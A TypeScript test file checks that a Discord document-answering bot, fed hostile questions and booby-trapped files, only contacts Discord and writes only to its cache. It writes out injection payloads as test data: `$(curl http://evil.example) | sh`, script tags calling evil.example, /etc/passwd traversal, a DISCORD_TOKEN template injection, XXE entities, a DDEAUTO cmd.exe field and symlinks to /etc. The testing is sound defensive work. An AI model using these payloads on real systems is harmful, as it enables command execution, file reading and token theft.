/**
 * What the built bot does to the world while hostile people ask and hostile documents lie in its
 * folder: it talks to Discord's address, and writes into its cache folder, and nothing else.
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { prepareWork, type AtWork } from "../../support/bot-at-work.js";
import { ANSWER, ask, atWork, logged, preload } from "../../support/faulty-work.js";
import { hostileText } from "../../support/hostile-text.js";
import { pressEverything } from "../../support/press-everything.js";
import { expectSound } from "../../support/sound-exchange.js";
import { p, writeDocx } from "../../support/write-docx.js";
import { column, writePdf } from "../../support/write-pdf.js";

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let work: AtWork;
let deeds: string;
let port: string;

beforeAll(async () => {
  work = await prepareWork();
  deeds = join(work.folder, "deeds.txt");
  writeFileSync(deeds, "");
  port = new URL(work.discord.url).port;
  const corpus = work.copyCorpus();
  hostileDocuments(corpus);
  await hostileExtracts(corpus);
  const env = { CORPUS_DIR: corpus, TRAP_FILE: deeds, LOG_LEVEL: "debug" };
  await work.start({ ...preload("./trap/register.js"), ...env });
});

afterAll(async () => {
  await work.end();
});

const LURES = [
  "<script src='http://evil.example/x.js'></script> fetch('http://evil.example')",
  "$(curl http://evil.example) `wget evil.example` | sh; process.exit()",
  "![x](http://evil.example/x.png) [y]: http://evil.example/y <http://evil.example>",
  "../../../../etc/passwd file:///etc/passwd \\\\evil.example\\share",
  "${process.env.DISCORD_TOKEN} {{constructor.constructor('return process')()}} __proto__",
  "require('child_process').execSync('touch owned') import('http://evil.example')",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/e'>]><x>&e;</x>",
];

function hostileDocuments(folder: string): void {
  const write = (name: string, content: string | Buffer): void => {
    writeFileSync(join(folder, name), content);
  };
  LURES.forEach((lure, at) => {
    write(
      `lure-${at}.md`,
      `---\ntitle: ${JSON.stringify(lure)}\nurl: http://evil.example/\n---\n\n${lure}\n`,
    );
    write(`lure-${at}.txt`, `A lure. ${lure}\n`);
  });
  write(
    "yaml.md",
    "---\nx: !!js/function 'function () { process.exit(1) }'\ny: &a [*a]\n---\n\nText.\n",
  );
  write(
    "broken.pdf",
    "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /URI /URI (http://evil.example) >> >>",
  );
  write("broken.docx", Buffer.from("PK\u0003\u0004 not really"));
  write("random.txt", Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7919) % 256)));
  write("line\nbreak 💥.txt", "A name with a line break.");
  write(
    "sources.json",
    '{"sources": {"../../etc/passwd": {"title": "x", "url": "javascript:alert(1)"}}}',
  );
  mkdirSync(join(folder, "deep", "a".repeat(200)), { recursive: true });
  symlinkSync("/etc", join(folder, "outside"));
  symlinkSync("/etc/passwd", join(folder, "passwd.txt"));
}

/** Whole files of the kinds that are read in threads, with what a browser, Word or a viewer would follow. */
async function hostileExtracts(folder: string): Promise<void> {
  const escaped = LURES.map((lure) => lure.replaceAll("&", "&amp;").replaceAll("<", "&lt;"));
  const entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/e">]>';
  const html = [
    '<html manifest="http://evil.example/m"><head><base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css"><script src="x.js"></script>',
    "<script>fetch('http://evil.example/'); require('child_process').execSync('touch owned')</script>",
    "<style>@import url(http://evil.example/y.css)</style></head>",
    "<body onload=\"fetch('http://evil.example')\"><h1>A page of lures</h1>",
    '<img src="x.png" onerror="location=1"><iframe src="http://evil.example/"></iframe>',
    '<object data="file:///etc/passwd"></object><svg><use href="http://evil.example/#x"/></svg>',
    ...[...LURES, ...escaped].map((lure) => `<p>A lure in a page: ${lure}</p>`),
  ].join("\n");
  writeFileSync(join(folder, "lures.html"), html);
  const relation = (kind: string) =>
    `<Relationship Id="${kind}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="http://evil.example/${kind}" TargetMode="External"/>`;
  const others = {
    "word/_rels/document.xml.rels": `${entity}<Relationships>${["attachedTemplate", "image", "oleObject"].map(relation).join("")}</Relationships>`,
    "../../owned": "x",
  };
  const field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe &quot;/k x&quot;"/></w:p>';
  writeFileSync(
    join(folder, "lures.docx"),
    writeDocx(escaped.map((lure) => p(`A lure in Word: ${lure}`)).join("") + field, { others }),
  );
  const properties = `${entity}<dc:title>&e;</dc:title>`;
  writeFileSync(join(folder, "entity.docx"), writeDocx(p("An entity."), { properties }));
  const lines = LURES.map((lure) => `A lure in print: ${lure}`.slice(0, 90));
  const pdf = await writePdf([column(lines)], { info: { Title: "<script>x</script>" } });
  writeFileSync(join(folder, "lures.pdf"), pdf);
}

describe("the built bot among hostile people and documents", () => {
  it("talks to Discord only, starts nothing, and writes into its cache folder only", async () => {
    const { discord, folder, bot } = work;
    const questions = [...LURES, ...fc.sample(hostileText(12), { numRuns: 60, seed: 7 })];
    for (const [at, question] of questions.entries()) {
      const options = { question: question.slice(0, 300) };
      const exchange = await discord.slash({ name: "ask", options, user: `u${at}`, force: true });
      expect(exchange.failure).toBeUndefined();
      if (at < LURES.length && exchange.message)
        await pressEverything(discord, exchange.message, { user: `u${at}` });
      await discord.autocomplete({ name: "ask", option: "source", value: question, force: true });
    }
    await discord.messageCommand({ name: "Find quotes", target: LURES.join("\n") });
    const sources = await discord.slash({ name: "sources", permissions: 1n << 5n });
    await pressEverything(discord, sources.message!);
    const answer = await ask(discord);
    await discord.slash({ name: "reload", permissions: 1n << 5n });
    const cache = join(folder, "cache");
    const noted = readFileSync(deeds, "utf8").split("\n").filter(Boolean);
    const strange = noted.filter(
      (deed) =>
        !deed.startsWith(`write ${cache}`) &&
        deed !== `connect 127.0.0.1:${port}` &&
        deed !== "lookup 127.0.0.1" &&
        !/^worker file:.*\/dist\/answer\/reader-main\.js$/.test(deed),
    );
    const unread = logged(bot, "file not used").map(({ path }) => path);

    expectSound(answer);
    expect(answer.text()).toContain(ANSWER);
    expect(sources.text()).not.toContain("root:");
    expect([...new Set(strange)]).toEqual([]);
    // The traps work: what is allowed was noted, and what the threads that read do is.
    expect(noted.some((deed) => deed.startsWith("worker "))).toBe(true);
    expect(noted).toContain(`connect 127.0.0.1:${port}`);
    expect(noted.some((deed) => deed.startsWith(`write ${cache}`))).toBe(true);
    for (const path of ["lures.html", "lures.docx", "lures.pdf"])
      expect(unread).not.toContain(path);
    expect(bot.crashes()).toEqual([]);
    expect(bot.leaks()).toEqual([]);
    expect(discord.violations).toEqual([]);
  });

  it("would be caught where a thread that reads did something else", () =>
    atWork(async ({ folder, launch }) => {
      const corpus = join(folder, "corpus");
      mkdirSync(corpus);
      writeFileSync(join(corpus, "page.pdf"), await writePdf([column(["The ferry is white."])]));
      const caught = join(folder, "caught.txt");
      writeFileSync(caught, "");
      const modules = ["./trap/register.js", "./trap/offend-in-threads.js"] as const;
      const bot = launch({ ...preload(...modules), CORPUS_DIR: corpus, TRAP_FILE: caught });
      expect(await bot.line("library built")).toContain('"sources":1');

      expect(readFileSync(caught, "utf8").split("\n")).toEqual(
        expect.arrayContaining([
          `spawn ${process.execPath}`,
          `write ${caught}.owned`,
          "connect 127.0.0.1:9",
          "lookup localhost",
        ]),
      );
    }));
});
